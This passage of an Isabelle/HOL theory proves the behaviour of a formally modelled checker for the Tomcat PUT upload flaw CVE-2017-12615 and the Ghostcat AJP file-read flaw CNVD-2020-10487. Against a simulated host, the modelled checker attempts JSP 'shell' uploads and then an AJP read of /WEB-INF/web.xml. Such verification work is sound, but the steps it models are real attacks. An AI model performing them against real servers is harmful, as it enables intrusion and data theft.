  show ?thesis using assms(1,2,4-) c unfolding include_call_def
    by (simp add: check_cve_2017_12615_and_cnvd_2020_10487_def cnvd_probe_def perform_request_def
        marker_in_def cnvd_evidence_def py_str_opt_def eff_simps Let_def)
qed

theorem check_cve_cnvd_fallback_witness:
  "check_cve_2017_12615_and_cnvd_2020_10487 ''http://10.0.0.1:8080'' cfg_example w_ajp =
     (Inr (True, Some ''CNVD-2020-10487'', Some ''ajp://10.0.0.1:8009/WEB-INF/web.xml''),
      w_ajp\<lparr>rnd_n := 1,
            sent := map (\<lambda>m. put_req m ''<%-- shell --%>'') (exploit_methods ''http://10.0.0.1:8080'' ''abc123.jsp''),
            ajp_sent := [include_call ''10.0.0.1'' 8009 ''/WEB-INF/web.xml'']\<rparr>)"
proof -
  have u: "clean_url ''http://10.0.0.1:8080'' = ''http://10.0.0.1:8080''"
    by (simp add: clean_url_def rstrip_def manager_path_def)
  have s: "shell_content cfg_example = Inr (YStr ''<%-- shell --%>'')" by simp
  have b: "put_body (body_encode w_ajp) (YStr ''<%-- shell --%>'') = Inr ''<%-- shell --%>''"
    by (simp add: put_body_def)
  have n: "\<forall>n m. \<exists>r. net w_ajp n (put_req m ''<%-- shell --%>'') = Reply r \<and> status r \<notin> {201, 204}"
    by (simp add: w_ajp_def)
  have h: "url_hostname (clean_url ''http://10.0.0.1:8080'') = Inr (Some ''10.0.0.1'')"
    by (simp add: u url_hostname_def url_netloc_def after_scheme_def scheme_chars_def is_ascii_alpha_def
        py_lower_char_def)
  have l: "lookup_path cfg_example [''cnvd_2020_10487'', ''port''] = Inr (YInt 8009)"
    "lookup_path cfg_example [''cnvd_2020_10487'', ''file_path''] = Inr (YStr ''/WEB-INF/web.xml'')"
    "lookup_path cfg_example [''cnvd_2020_10487'', ''lfi_check''] = Inr (YStr ''<web-app'')"
    by (simp_all add: cfg_example_def)
  have a: "ajp_net w_ajp (length (ajp_sent w_ajp)) (include_call ''10.0.0.1'' 8009 ''/WEB-INF/web.xml'') =
           Ajp_body [ascii_bytes ''<?xml?><web-'', ascii_bytes ''app>'']"
    by (simp add: w_ajp_def)
  have dc: "decode_chunks [ascii_bytes ''<?xml?><web-'', ascii_bytes ''app>''] =
            Inr (pystr_of ''<?xml?><web-app>'')"
    by (simp add: ascii_bytes_def pystr_of_def utf8_decode.simps(2) cons_r_def)
  have m: "is_infix (pystr_of ''<web-app'') (pystr_of ''<?xml?><web-app>'')"
    by (simp add: is_infix_def pystr_of_def)
  have "int_dec 8009 = ''8009''" by (simp add: int_dec_def)
  with check_cve_cnvd_fallback [OF s b n h l(1) _ _ l(2) l(3) a _ dc m] u show ?thesis
    by (simp add: w_ajp_def)
qed

end
